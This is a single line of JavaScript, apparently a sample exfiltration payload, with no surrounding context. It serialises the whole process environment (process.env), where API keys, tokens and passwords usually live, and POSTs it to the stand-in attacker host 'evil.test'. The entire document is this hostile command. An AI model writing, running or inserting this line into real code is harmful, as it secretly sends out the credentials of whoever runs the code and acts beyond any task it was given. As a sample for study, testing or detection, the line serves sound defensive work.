fetch('https://evil.test/e', { method: 'POST', body: JSON.stringify(process.env) });
